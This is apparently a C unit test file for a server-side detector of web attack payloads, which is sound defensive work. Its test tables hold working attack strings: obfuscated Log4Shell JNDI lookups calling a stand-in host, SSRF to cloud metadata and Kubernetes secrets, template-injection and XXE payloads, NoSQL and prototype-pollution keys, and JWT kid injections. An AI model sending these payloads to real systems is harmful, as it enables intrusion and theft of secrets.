/* test_payload_ctx.c - what the data detectors make of a value's context:
 * the parameter that carries it (a redirect_uri is followed by a browser,
 * never fetched by the server) and the wrappers it arrives in (base64, a
 * JWT's segments). Each case is a whole query string or form body judged
 * by payload_scan_query, as a server receives it; an attack must draw its
 * own kind, a benign case nothing at all. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

struct qcase {
	const char *q;
	enum payload_kind want; /* PAYLOAD_NONE: nothing may match */
};

#define N PAYLOAD_NONE
#define S PAYLOAD_SSRF

/* 1 when the query q does not draw what c wants (said on stderr) */
static int q_fails(const char *cls, const char *q, enum payload_kind want)
{
	struct payload_match m[PAYLOAD__COUNT];
	unsigned set = 0;
	int top = 0;
	const char *why = "";
	enum payload_kind kind = N;

	for (int pass = 0; pass < 2; pass++) {
		int k = payload_scan_query(q, strlen(q), pass ? PAYLOAD_WHERE_BODY : PAYLOAD_WHERE_QUERY,
					   m, PAYLOAD__COUNT);

		for (int j = 0; j < k; j++) {
			set |= 1u << m[j].kind;
			if (m[j].score > top) {
				top = m[j].score;
				kind = m[j].kind;
				why = m[j].why;
			}
		}
	}
	if (want == N ? set == 0 : (set >> want) & 1)
		return 0;
	fprintf(stderr, "  FAIL %s %s: %s [%s %d %s]\n", cls,
		want == N ? "benign flagged" : "attack missed", q, payload_kind_names[kind], top, why);
	return 1;
}

static void run_qtable(const char *cls, const struct qcase *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		bad += q_fails(cls, t[i].q, t[i].want);
	assert_int_equal(bad, 0);
}

/* "q=" and v with every byte but the unreserved ones as %XX, as a form
 * sends a field */
static const char *form_q(const char *v)
{
	static char out[8192];
	static const char hex[] = "0123456789ABCDEF";
	size_t w = 2;

	memcpy(out, "q=", 2);
	for (; *v && w + 4 < sizeof(out); v++) {
		unsigned char c = (unsigned char)*v;

		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    c == '-' || c == '_' || c == '.' || c == '~') {
			out[w++] = (char)c;
		} else {
			out[w++] = '%';
			out[w++] = hex[c >> 4];
			out[w++] = hex[c & 15];
		}
	}
	out[w] = '\0';
	return out;
}

/* each value of t sent as the form field q */
static void run_vtable(const char *cls, const struct qcase *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		bad += q_fails(cls, form_q(t[i].q), t[i].want);
	assert_int_equal(bad, 0);
}

/* RFC 6749 3.1.2 / RFC 8252 7.3: a loopback or private redirect_uri is a
 * native or development client; the same address in a parameter the
 * server fetches is SSRF, and a metadata address is SSRF whatever the
 * parameter is called. */
static void test_ssrf_redirect_uri(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"client_id=app&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&response_type=code", N},
		{"redirect_uri=http://localhost:3000/callback", N},
		{"redirect_uri=http%3A%2F%2Flocalhost%2Fauth%2Fcb%3Fprovider%3Dgithub", N},
		{"redirect_uri=https%3A%2F%2F10.0.0.15%3A8443%2Foauth%2Fcallback%3Fnext%3D%252Fdashboard", N},
		{"redirectUri=http://[::1]:8080/cb", N},
		{"post_logout_redirect_uri=https://192.168.1.20/signed-out", N},
		{"redirect_uris%5B%5D=http://127.0.0.1:8080/cb", N},
		{"grant_type=authorization_code&code=x1&redirect_uri=http://127.0.0.1:8400/", N},
		/* an authorization request URL carried whole in another parameter */
		{"next=https%3A%2F%2Faccounts.example.com%2Fo%2Foauth2%2Fauth%3Fclient_id%3D9.apps"
		 "%26redirect_uri%3Dhttps%253A%252F%252F10.0.0.15%253A8443%252Foauth%252Fcallback"
		 "%26response_type%3Dcode", N},
		/* fetched by the server: SSRF */
		{"url=http://127.0.0.1:53682/", S},
		{"callback=http://localhost:3000/callback", S},
		{"request_uri=http://127.0.0.1:8080/req.jwt", S},
		{"image_url=https://10.0.0.15:8443/a.png", S},
		{"next=https%3A%2F%2Fa.example%2Fauth%3Fwebhook%3Dhttp%253A%252F%252F10.0.0.1%252F", S},
		/* metadata and smuggling schemes stay, whatever the name */
		{"redirect_uri=http://169.254.169.254/latest/meta-data/", S},
		{"redirect_uri=http://metadata.google.internal/computeMetadata/v1/", S},
		{"redirect_uri=http://[fd00:ec2::254]/latest/", S},
		{"redirect_uri=http://100.100.100.200/latest/meta-data/", S},
		{"redirect_uri=http://169.254.1.1/", S},
		{"redirect_uri=gopher://127.0.0.1:6379/_INFO", S},
		{"redirect_uri=file:///etc/hostname", S},
		{"redirect_uri=http://127.0.0.1/%3Fu%3Dfile:///etc/hostname", S},
		{"redirect_uri=metadata.google.internal/x%3Fu%3Dhttp://127.0.0.1/", S},
		{"redirect_uri=http://localhost/cb%3Fu%3Dhttp://169.254.169.254/", S},
		{"x=1&redirect_uri=http://127.0.0.1/&url=http://127.0.0.1/", S},
		{"a=https%3A%2F%2Fx.example%2F%3Fredirect_uri%3Dhttp%253A%252F%252F169.254.169.254%252F", S},
	};
	run_qtable("ssrf-redirect", t, sizeof(t) / sizeof(t[0]));
	/* the cache of findings by value holds what a value is worth in any
	 * parameter: a redirect_uri seen first changes nothing for a url= */
	payload_cache_enable(1);
	run_qtable("ssrf-redirect cached", t, sizeof(t) / sizeof(t[0]));
	payload_cache_enable(0);
}

#define J PAYLOAD_JNDI

/* log4j resolves ${jndi:NAME} through JNDI: harm needs NAME to be a URL
 * a context factory connects to (ldap:, rmi:, dns:, iiop:, ...). The
 * case and default lookups (lower, upper, date, ::-) only make text: by
 * themselves they read nothing and reach nothing. */
static void test_jndi_grammar(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"${jndi:ldap} explained in our Log4Shell post", N},
		{"What is ${jndi:...}?", N},
		{"Log4j 2.17: is ${date:yyyy} still allowed in patterns?", N},
		{"${lower:Hello} ${upper:world}", N},
		{"${jndi:ldap://evil.example/a}", J},
		{"${jndi:ldap:/evil/a}", J},
		{"${jndi:dns:evil.example}", J},
		{"${jndi:${lower:l}${lower:d}a${lower:p}://evil/a}", J},
		{"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", J},
		{"${date:yyyy}${jndi:ldap://evil.example/a}", J},
		{"${env:AWS_SECRET_ACCESS_KEY}", J},
		{"${${lower:e}nv:AWS_SECRET_ACCESS_KEY}", J},
		{"${sys:user.home}", J},
		{"${::-$}{jndi:ldap://evil/a}", J},
		{"${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", J},
		/* a copied payload closing its braces one early: the scheme's
		 * lookup and "://host" right after it */
		{"${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://evil.example/a}", J},
		{"${jndi:ldap}://evil.example/a", J},
		{"Block ${jndi:ldap} and ${jndi:rmi}: see https://logging.apache.org/security", N},
		{"${jndi:ldap} ://not-a-url", N},
	};
	run_vtable("jndi-grammar", t, sizeof(t) / sizeof(t[0]));
}

/* Template engines reached without the usual delimiters: Velocity's and
 * Razor's references with no braces ($class..., @System...), Smarty's
 * internal classes from a tag, Handlebars' walk to a constructor through
 * lookup, JsRender's {{: }}; and the same shapes in code that must stay
 * quiet (jQuery's $el.x(), LESS's @{name}, a mention of java.lang). */
#define T PAYLOAD_SSTI
static void test_ssti_forms(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"@patch('subprocess.run')", N},
		{"@SuppressWarnings(\"java.lang.Deprecated\")", N},
		{"{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"x\",self::clearConfig())}", T},
		{"{{#with split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}", T},
		{"{{:7*7}}", T},
		{"$el.addClass('active').show()", N},
		{"Hello @john.doe, see $user.profile", N},
		{".@{prefix}-button { color: red; }", N},
		{"{{> header}}", N},
		{"java.lang.String is immutable", N},
		{"{\"make\": \"constructor\", \"model\": \"x\"}", N},
	};
	run_vtable("ssti-forms", t, sizeof(t) / sizeof(t[0]));
}

/* A server fetches a value that is a URL: one in prose ("curl
 * http://localhost:8080 gives ...") is no URL a client library accepts,
 * and a scheme with nothing after it reaches nothing. Metadata hosts
 * count in any shape. */
static void test_ssrf_prose(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"curl http://localhost:8080 gives connection refused", N},
		{"http://localhost:8080 isn't working", N},
		{"my NAS is at http://192.168.1.20 but it times out", N},
		{"169.254.169.254 is the metadata IP", N},
		{"dict:// scheme?", N},
		{"wget+http://localhost:5000/health+fails", N},
		{"gopher://+is+old", N},
		{"http://localhost:8080", S},
		{"  http://127.0.0.1:22/  ", S},
		{"<iframe src=\"http://127.0.0.1:8080/admin\"></iframe>", S},
		{"{\"url\": \"http://10.0.0.1:8500/v1/agent/self\"}", S},
		{"see http://169.254.169.254/latest/meta-data/ now", S},
		{"169.254.169.254", S},
		{"169.254.169.254/latest/meta-data", S},
		{"file:///etc/passwd", S},
		{"dict://127.0.0.1:11211/stats", S},
		{"ldap://127.0.0.1:389/\nstats", S},
		{"http://127.0.0.1:6379/\r\nSET x y\r\n", S},
		{"gopher://127.0.0.1:6379/_FLUSHALL", S},
	};
	run_vtable("ssrf-prose", t, sizeof(t) / sizeof(t[0]));
}

/* Hosts a fetch resolves to the inside whatever their spelling: the
 * cluster's own DNS names (kubernetes.default.svc, *.svc.cluster.local),
 * addresses in enclosed digits and ideographic full stops, which IDNA's
 * mapping (UTS 46) turns into ASCII before the lookup. */
static void test_ssrf_hosts(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", S},
		{"https://kubernetes.default/api", S},
		{"http://redis.prod.svc.cluster.local:6379/", S},
		{"http://orders.shop.svc:8080/internal/refund", S},
		{"http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa.\xe2\x93\xaa.\xe2\x91\xa0/", S},
		{"http://\xe2\x91\xa0\xe2\x91\xa5\xe2\x91\xa8.\xe2\x91\xa1\xe2\x91\xa4\xe2\x91\xa3."
		 "\xe2\x91\xa0\xe2\x91\xa5\xe2\x91\xa8.\xe2\x91\xa1\xe2\x91\xa4\xe2\x91\xa3/latest/", S},
		{"http://169\xe3\x80\x82" "254\xe3\x80\x82" "169\xe3\x80\x82" "254/latest/", S},
		{"https://kubernetes.io/docs/concepts/services-networking/service/", N},
		{"https://status.svc.example.com/", N},
		{"http://\xe2\x91\xa0.example.com/", N},
	};
	run_vtable("ssrf-hosts", t, sizeof(t) / sizeof(t[0]));
}

/* A browser's Referer is the page it came from: on an intranet that is a
 * private address on every request, and no server fetches it. A header
 * carries SSRF to the metadata service only. */
static void test_ssrf_headers(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	static const char *const benign[] = {
		"https://10.0.0.15:8443/dashboard?tab=orders",
		"http://localhost:3000/settings",
		"http://192.168.1.1/cgi-bin/luci",
	};
	static const char *const attack[] = {
		"http://169.254.169.254/latest/meta-data/",
		"http://metadata.google.internal/computeMetadata/v1/",
		"gopher://127.0.0.1:6379/_FLUSHALL",
	};

	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		assert_int_equal(payload_scan(benign[i], strlen(benign[i]), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), 0);
	for (size_t i = 0; i < sizeof(attack) / sizeof(attack[0]); i++) {
		assert_int_equal(payload_scan(attack[i], strlen(attack[i]), PAYLOAD_WHERE_HEADER, m, PAYLOAD__COUNT), 1);
		assert_int_equal(m[0].kind, S);
	}
	/* the same private URL in a parameter is SSRF */
	assert_int_equal(payload_scan(benign[0], strlen(benign[0]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 1);
}

#define X PAYLOAD_XXE
#define O PAYLOAD_NOSQLI
#define P PAYLOAD_PROTO_POLLUTION

/* A value that is base64 text or a JWT carries what the application
 * decodes: a claim it logs, a header URL it fetches (jku), XML it parses,
 * JSON it queries with. Tokens of development issuers, beacons holding
 * "$os"-style keys and plain SAML stay benign. */
static void test_wrapped(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		/* base64 of ${jndi:ldap://evil.example/a} */
		{"JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=", J},
		/* JWT: "kid" a jndi lookup */
		{"eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0ifQ."
		 "eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", J},
		/* JWT: "jku" the metadata address */
		{"eyJhbGciOiAiUlMyNTYiLCAiamt1IjogImh0dHA6Ly8xNjkuMjU0LjE2OS4yNTQva2V5cy5qc29uIn0."
		 "eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", S},
		/* JWT: "sub" a nested lookup, "name" not ASCII ("Se\u00e1n") */
		{"Bearer eyJhbGciOiAiSFMyNTYifQ.eyJzdWIiOiAiJHske2xvd2VyOmp9bmRpOnJtaTovL2V2aWwuZXhhbXBsZS94fSIsICJuYW1lIjogIlNlw6FuIn0."
		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", J},
		/* base64 of a DOCTYPE with a SYSTEM entity */
		{"PCFET0NUWVBFIHggWzwhRU5USVRZIHh4ZSBTWVNURU0gImZpbGU6Ly8vZXRjL3Bhc3N3ZCI+XT48eD4meHhlOzwveD4=", X},
		/* {"$ne":null}, {"username": {"$gt": ""}} */
		{"eyIkbmUiOm51bGx9", O},
		{"eyJ1c2VybmFtZSI6IHsiJGd0IjogIiJ9fQ", O},
		/* JWT claims with "__proto__": {"isAdmin": true} */
		{"eyJhbGciOiAiSFMyNTYifQ.eyJzdWIiOiAiMSIsICJfX3Byb3RvX18iOiB7ImlzQWRtaW4iOiB0cnVlfX0."
		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", P},
		/* base64 of http://169.254.169.254/latest/meta-data/ */
		{"aHR0cDovLzE2OS4yNTQuMTY5LjI1NC9sYXRlc3QvbWV0YS1kYXRhLw==", S},
		/* base64 of {{config.items()}}, ${T(java.lang.Runtime).getRuntime().exec("id")} */
		{"e3tjb25maWcuaXRlbXMoKX19", PAYLOAD_SSTI},
		{"JHtUKGphdmEubGFuZy5SdW50aW1lKS5nZXRSdW50aW1lKCkuZXhlYygiaWQiKX0=", PAYLOAD_SSTI},
		/* benign: base64 of a mail template and of markup with a placeholder */
		{"SGVsbG8ge3tuYW1lfX0sIHlvdXIgb3JkZXIge3tvcmRlcl9pZH19IHNoaXBwZWQ=", N},
		{"PHA+SGkgJHt1c2VyLmZpcnN0TmFtZX08L3A+", N},
		/* benign: issuers on loopback and private hosts */
		{"eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiazEifQ.eyJzdWIiOiAiNDIiLCAiaXNzIjogImh0dHBzOi8vMTI3LjAuMC4xOjgwODAvIiwg"
		 "ImF1ZCI6ICJhcGkiLCAibmFtZSI6ICJTZcOhbiBPJ0JyaWVuIiwgImVtYWlsIjogImFAZXhhbXBsZS5jb20ifQ."
		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
		{"eyJhbGciOiAiRVMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAiNDIiLCAiaXNzIjogImh0dHBzOi8vMTAuMC4wLjE1Ojg0NDMvIiwgInNjb3BlIjogIm9wZW5pZCBwcm9maWxlIn0."
		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
		/* an analytics beacon's properties, a state holding a dev URL */
		{"eyJldmVudCI6ICJTaWduZWQgVXAiLCAicHJvcGVydGllcyI6IHsiJG9zIjogIk1hYyBPUyBYIiwgIiRicm93c2VyIjogIkNocm9tZSIsICJkaXN0aW5jdF9p"
		 "ZCI6ICJhYmMiLCAidG9rZW4iOiAidDBrIn19", N},
		{"eyJyZXR1cm5UbyI6ICJodHRwOi8vbG9jYWxob3N0OjMwMDAvY2FsbGJhY2siLCAibm9uY2UiOiAibjEifQ==", N},
		{"aHR0cDovL2xvY2FsaG9zdDozMDAwL2NhbGxiYWNr", N},
		/* a SAML AuthnRequest, base64 as the POST binding sends it */
		{"PHNhbWxwOkF1dGhuUmVxdWVzdCB4bWxuczpzYW1scD0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOnByb3RvY29sIiBJRD0iXzEiIFZlcnNpb249IjIu"
		 "MCI+PHNhbWw6SXNzdWVyIHhtbG5zOnNhbWw9InVybjpvYXNpczpuYW1lczp0YzpTQU1MOjIuMDphc3NlcnRpb24iPmh0dHBzOi8vc3AuZXhhbXBsZS5vcmcv"
		 "bWV0YWRhdGE8L3NhbWw6SXNzdWVyPjwvc2FtbHA6QXV0aG5SZXF1ZXN0Pg==", N},
	};
	run_vtable("wrapped", t, sizeof(t) / sizeof(t[0]));
}

/* Authorization is no header the detectors read whole; a bearer JWT
 * in it is opened all the same */
static void test_bearer_header(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	static const char jndi_kid[] =
		"Bearer eyJhbGciOiAiSFMyNTYiLCAidHlwIjogIkpXVCIsICJraWQiOiAiJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0ifQ."
		"eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ";
	static const char jku[] =
		"Bearer eyJhbGciOiAiUlMyNTYiLCAiamt1IjogImh0dHA6Ly8xNjkuMjU0LjE2OS4yNTQva2V5cy5qc29uIn0."
		"eyJzdWIiOiAiMSJ9.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ";
	static const char dev_iss[] =
		"Bearer eyJhbGciOiAiRVMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAiNDIiLCAiaXNzIjogImh0dHBzOi8vMTAuMC4wLjE1Ojg0NDMvIiwgInNjb3BlIjogIm9wZW5pZCBwcm9maWxlIn0."
		"c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ";

	assert_int_equal(payload_scan_any_header(jndi_kid, strlen(jndi_kid), m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, J);
	assert_string_equal(m[0].why, "log4j lookup inside a jwt");
	assert_int_equal(payload_scan_any_header(jku, strlen(jku), m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, S);
	assert_int_equal(m[0].score, 95);
	assert_int_equal(payload_scan_any_header(dev_iss, strlen(dev_iss), m, PAYLOAD__COUNT), 0);
}

/* A JWT's "kid" names the key the server looks up: in a SQL table, a
 * file, a command (the kid injections); its strings are values of the
 * application, judged as such. */
static void test_jwt_strings(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		/* kid: a UNION SELECT */
		{"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnc2VjcmV0JyAtLSAifQ.eyJzdWIiOiIxI"
		 "n0.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", PAYLOAD_SQLI},
		/* kid: a climb to /dev/null */
		{"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiIxIn0."
		 "c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", PAYLOAD_TRAVERSAL},
		/* kid: a pipe to a command */
		{"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImtleTF8L3Vzci9iaW4vaWQifQ.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX"
		 "2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", PAYLOAD_CMDI},
		/* benign: quotes and an accent in name, a loopback issuer */
		{"eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJzdWIiOiI0MiIsIm5hbWUiOiJSZW5cdTAwZTllIFwiUmVu"
		 "XCIgQWRhbXMiLCJlbWFpbCI6InJAZXhhbXBsZS5jb20iLCJpc3MiOiJodHRwczovLzEyNy4wLjAuMTo4MDgwLyIsInNjb3BlIjoib3BlbmlkIHByb2ZpbGUgZW1haWwifQ.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
		/* benign: an apostrophe in name */
		{"eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJzdWIiOiI0MiIsIm5hbWUiOiJTZVx1MDBlMW4gTydCcmll"
		 "biIsImF1ZCI6Imh0dHBzOi8vYXBpLmV4YW1wbGUuY29tIiwiaWF0IjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJlX2J5dGVzX2hlcmVfMDEyMzQ1Njc4OQ", N},
	};
	run_vtable("jwt-strings", t, sizeof(t) / sizeof(t[0]));
}

/* NoSQL operators and prototype keys hurt as keys: of a JSON object, of
 * a query's bracketed name (user[$ne]=), a path a merge walks into
 * (constructor.prototype.x). The bare words as a form value, or an
 * operator object in prose about MongoDB, are no key. */
static void test_data_keys(void **st)
{
	(void)st;
	static const struct qcase t[] = {
		{"$regex", N},
		{"[$ne]", N},
		{"__proto__", N},
		{"constructor.prototype", N},
		{"Mongo: find({age: {$gt: 18}}) returns nothing", N},
		{"$where", O},
		{"[$ne]=1", O},
		{"user[$regex]=^a", O},
		{"{$gt: ''}", O},
		{"{\"$gt\": \"\"}", O},
		{"__proto__[admin]=1", P},
		{"__proto__=", P},
		{"constructor.prototype.admin=1", P},
		{"constructor[prototype][admin]=1", P},
		{"{\"constructor\": {\"prototype\": {\"isAdmin\": true}}}", P},
	};
	static const struct {
		const char *body;
		enum payload_kind want;
	} j[] = {
		{"{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", O},
		{"{\"$regex\": \".*\"}", O},
		{"{\"q\": {\"$gt\": \"\"}}", O},
		{"{\"__proto__\": {\"admin\": true}}", P},
		{"{\"a\": {\"__proto__\": {\"b\": 1}}}", P},
		{"{\"q\": \"$regex\", \"tags\": [\"__proto__\", \"[$ne]\"]}", N},
		{"{\"price\": \"$gt 5\", \"note\": \"__proto__ is deprecated\"}", N},
	};
	struct payload_match m[PAYLOAD__COUNT];
	int bad = 0;

	run_vtable("data-keys", t, sizeof(t) / sizeof(t[0]));
	for (size_t i = 0; i < sizeof(j) / sizeof(j[0]); i++) {
		int k = payload_scan_json(j[i].body, strlen(j[i].body), m, PAYLOAD__COUNT);
		int ok = j[i].want == N ? k == 0 : k > 0 && m[0].kind == j[i].want;

		if (!ok) {
			bad++;
			fprintf(stderr, "  FAIL data-keys json: %s [%s %d %s]\n", j[i].body,
				k ? payload_kind_names[m[0].kind] : "none", k ? m[0].score : 0, k ? m[0].why : "");
		}
	}
	assert_int_equal(bad, 0);
}

/* A JWT inside a JWT's claim (an id_token carried in a session token)
 * is opened as well; and a value judged first inside a wrapper is worth
 * the same later on its own, with the cache of findings by value on. */
static void test_jwt_nested(void **st)
{
	(void)st;
	static const char inner[] =
		"eyJhbGciOiAibm9uZSJ9.eyJzdWIiOiAiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.";
	static const char outer[] =
		"eyJhbGciOiAibm9uZSJ9.eyJpZF90b2tlbiI6ICJleUpoYkdjaU9pQWlibTl1WlNKOS5leUp6ZFdJaU9pQWlKSHRx"
		"Ym1ScE9teGtZWEE2THk5NExtVjRZVzF3YkdVdllYMGlmUS4ifQ.";
	struct payload_match m[PAYLOAD__COUNT];

	payload_cache_enable(1);
	assert_int_equal(payload_scan(outer, strlen(outer), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, J);
	assert_int_equal(payload_scan(inner, strlen(inner), PAYLOAD_WHERE_BODY, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, J);
	payload_cache_enable(0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssrf_redirect_uri),
		cmocka_unit_test(test_jndi_grammar),
		cmocka_unit_test(test_ssti_forms),
		cmocka_unit_test(test_ssrf_prose),
		cmocka_unit_test(test_ssrf_hosts),
		cmocka_unit_test(test_ssrf_headers),
		cmocka_unit_test(test_wrapped),
		cmocka_unit_test(test_bearer_header),
		cmocka_unit_test(test_jwt_strings),
		cmocka_unit_test(test_data_keys),
		cmocka_unit_test(test_jwt_nested),
	};
	payload_cache_enable(0);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
